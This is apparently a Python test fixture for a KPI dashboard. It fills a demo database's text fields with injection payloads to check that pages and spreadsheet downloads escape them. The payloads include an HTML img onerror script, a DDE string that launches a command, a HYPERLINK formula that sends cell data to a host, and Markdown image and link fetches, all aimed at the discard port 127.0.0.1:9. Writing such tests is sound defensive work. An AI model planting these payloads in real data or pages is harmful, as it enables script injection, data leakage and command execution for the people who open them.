"""A database whose text is hostile: Markdown that would fetch an image or
make a link, Streamlit's colour and LaTeX syntax, HTML, and cells a
spreadsheet would run as formulas, in every field people type (metric names,
descriptions, departments, KPI titles, owners, objectives, key result titles,
channels, campaigns, launch and scenario names, file and sheet names).

It starts from the demo company and renames its text in place, the way a
database that already holds such text looks: refusing it at import could not
protect that database. Everything points at 127.0.0.1:9 (the discard port,
where nothing listens), so a browser that fetched it leaves a trace in a
test without reaching anywhere.

The SQL here is test set-up, like tests/builders.py: engine code keeps its
SQL in kpi_logic/store/.
"""
from __future__ import annotations

import re
from pathlib import Path

from kpi_logic.domain.safe_text import is_plain_number
from kpi_logic.launch import analysis as launch
from kpi_logic.store import open_store
from tests.readable import plain, shown  # noqa: F401 - re-exported for the hostile tests

HOST = "127.0.0.1:9"
IMAGE = f"![p](http://{HOST}/x.png)"
LINK = f"[x](http://{HOST}/link)"
BOLD = "**bold**"
COLOUR = ":red[red]"
LATEX = "$x^2$"
HTML = "<img src=x onerror=alert(1)>"
HYPERLINK = f'=HYPERLINK("http://{HOST}/leak?d="&A1,"x")'
AT_SUM = "@SUM(1+1)"
PLUS = "+1+1"
DDE = "-2+3+cmd|' /C calc'!A0"
TAB = "\tTab-led"
CR = "\rCR-led"
HOSTILE = (IMAGE, LINK, BOLD, COLOUR, LATEX, HTML, HYPERLINK, AT_SUM, PLUS, DDE, TAB, CR)
FORMULAS = (HYPERLINK, AT_SUM, PLUS, DDE, TAB, CR)

DEPARTMENTS = {"Sales": LINK, "Marketing": AT_SUM, "Customer service": IMAGE,
               "Finance": DDE, "Product": BOLD, "HR": HTML}
# Metrics no formula refers to (a formula names its parts by identifier).
METRICS = {"calls_made": HYPERLINK, "training_hours": AT_SUM, "chat_duration_minutes": HTML,
           "burn_rate": DDE, "operating_cash_flow": IMAGE, "time_to_hire_days": LINK,
           "engagement_score": BOLD, "csat": COLOUR, "first_response_hours": LATEX,
           "hires": PLUS, "page_views": TAB, "sales_growth_rate": CR}
CHANNELS = {"email": LATEX, "partners": COLOUR, "search_ads": AT_SUM, "social": PLUS,
            "display": LINK}
CAMPAIGNS = {"Brand terms": DDE, "Launch posts": BOLD, "Launch banners": IMAGE,
             "Retargeting": HTML}
LAUNCH = HYPERLINK
SCENARIOS = (DDE, IMAGE, PLUS)

# Raw pieces of the payloads: none may stand unescaped (no backslash before it)
# in the Markdown a page sends.
ACTIVE = ("](", "![", "<img", COLOUR, "$x^2", BOLD, "=HYPERLINK", "@SUM", "+1+1", "cmd|",
          HOST, "Tab-led", "CR-led")


def unescaped(markdown: str) -> list[str]:
    """The ACTIVE pieces that stand in `markdown` without an escaping backslash."""
    return [piece for piece in ACTIVE if re.search(r"(?<!\\)" + re.escape(piece), markdown)]


def numbered(values: list[str], payloads=HOSTILE) -> dict[str, str]:
    """Each old value -> a payload, cycling; repeats get " 2", " 3"... (the
    payload still leads, so a formula stays a formula)."""
    out = {}
    for index, old in enumerate(values):
        payload, lap = payloads[index % len(payloads)], index // len(payloads)
        out[old] = payload + (f" {lap + 1}" if lap else "")
    return out


def make_hostile(store) -> None:
    """Renames the demo company's text in `store` to HOSTILE payloads and saves
    three scenarios with hostile names under the hostile launch."""
    for old, new in DEPARTMENTS.items():
        for table in ("metrics", "kpis", "key_results", "launches"):
            store.connection.execute(f"update {table} set department = ? where department = ?", [new, old])
    for old, new in METRICS.items():
        _rename_metric(store, old, new)
    names = [r[0] for r in store.connection.execute("select name from metrics where superseded_by is null "
                                       "order by name").fetchall()]
    for name, description in numbered(names).items():
        store.connection.execute("update metrics set description = ? where name = ?", [description, name])
    _rename_kpis(store)
    _rename_key_results(store)
    _hostile_reviews(store)
    for old, new in CHANNELS.items():
        store.connection.execute("update observations set dimension = ? where dimension = ?", [new, old])
    for old, new in CAMPAIGNS.items():
        store.connection.execute("update observations set campaign = ? where campaign = ?", [new, old])
    store.connection.execute("update launches set launch = ?", [LAUNCH])
    ids = [r[0] for r in store.connection.execute("select id from batches order by id").fetchall()]
    for batch, payload in zip(ids, HOSTILE, strict=False):
        store.connection.execute("update batches set file = ?, sheet = ? where id = ?", [payload, payload, batch])
    allocation = launch.actual_split(launch.launch_analysis(store, LAUNCH))
    for index, name in enumerate(SCENARIOS):
        launch.saved_scenario(store, LAUNCH, name, {c: s * (1 + index / 10)
                                                  for c, s in allocation.items()})


def _rename_metric(store, old: str, new: str) -> None:
    store.connection.execute("update metrics set name = ? where name = ?", [new, old])
    store.connection.execute("update observations set metric = ? where metric = ?", [new, old])
    for table in ("kpis", "key_results"):
        store.connection.execute(f"update {table} set metric = ? where metric = ?", [new, old])
    for title, supporting in store.connection.execute("select title, supporting from kpis "
                                         "where supporting is not null").fetchall():
        parts = [new if p.strip() == old else p.strip() for p in supporting.split(",")]
        store.connection.execute("update kpis set supporting = ? where title = ?", [", ".join(parts), title])


def _rename_kpis(store) -> None:
    rows = store.connection.execute("select distinct title from kpis order by title").fetchall()
    for old, new in numbered([r[0] for r in rows]).items():
        store.connection.execute("update kpis set title = ? where title = ?", [new, old])
        store.connection.execute("update targets set kpi = ? where kpi = ?", [new, old])
    _renamed_column(store, "kpis", "owner", HOSTILE)         # Dana Reyes (Sales) gets IMAGE
    _renamed_column(store, "kpis", "objective", HOSTILE[5:] + HOSTILE[:5])


def _rename_key_results(store) -> None:
    _renamed_column(store, "key_results", "objective", (LINK, IMAGE, COLOUR, LATEX, HTML, BOLD))
    rows = store.connection.execute("select distinct title from key_results order by title").fetchall()
    for old, new in numbered([r[0] for r in rows], HOSTILE[6:] + HOSTILE[:6]).items():
        store.connection.execute("update key_results set title = ? where title = ?", [new, old])
    _renamed_column(store, "key_results", "owner", HOSTILE[2:] + HOSTILE[:2])


def _hostile_reviews(store) -> None:
    """Objectives named as the (renamed) key results name them, with hostile owners,
    descriptions and a hostile parent; check-ins with hostile notes and authors on
    every KPI and key result."""
    con = store.connection
    con.execute("delete from objectives")
    con.execute("delete from checkins")
    objectives = [r for r in con.execute("select distinct objective, department from key_results "
                                         "order by 1").fetchall()]
    for index, (name, department) in enumerate(objectives):
        con.execute("insert into objectives (objective, owner, department, cycle, description, "
                    "parent, batch_id) values (?, ?, ?, '2026-Q4', ?, ?, 1)",
                    [name, HOSTILE[index % len(HOSTILE)], department,
                     HOSTILE[(index + 3) % len(HOSTILE)],
                     objectives[0][0] if index else None])
    subjects = [("kpi", "", r[0], "2026-11") for r in con.execute(
        "select title from kpis where superseded_by is null order by 1").fetchall()]
    subjects += [("key_result", r[0], r[1], "2026-W49") for r in con.execute(
        "select objective, title from key_results where superseded_by is null order by 1, 2")
        .fetchall()]
    for index, (kind, objective, title, period) in enumerate(subjects):
        con.execute("insert into checkins (kind, objective, title, period, note, confidence, "
                    "checked_by, checked_at, batch_id) values (?, ?, ?, ?, ?, ?, ?, "
                    "timestamp '2026-12-04 09:00:00', 1)",
                    [kind, objective, title, period, HOSTILE[index % len(HOSTILE)],
                     "low" if kind == "key_result" else None,
                     HOSTILE[(index + 5) % len(HOSTILE)]])


def _renamed_column(store, table: str, column: str, payloads) -> None:
    values = [r[0] for r in store.connection.execute(f"select distinct {column} from {table} "
                                        f"where {column} is not null order by 1").fetchall()]
    for old, new in numbered(values, payloads).items():
        store.connection.execute(f"update {table} set {column} = ? where {column} = ?", [new, old])


def hostile_database(path: Path) -> Path:
    """make_hostile on the database file at `path` (the demo company already in it)."""
    with open_store(path) as store:
        make_hostile(store)
    return path


# ------------------------------------------------------------- reading a page

def runs_as_formula(cell) -> bool:
    """True when a spreadsheet would run `cell`: text whose first character is
    = + - @, a tab or a carriage return, unless it is a plain number (the
    rule every table and download must keep)."""
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r") \
        and not is_plain_number(cell)
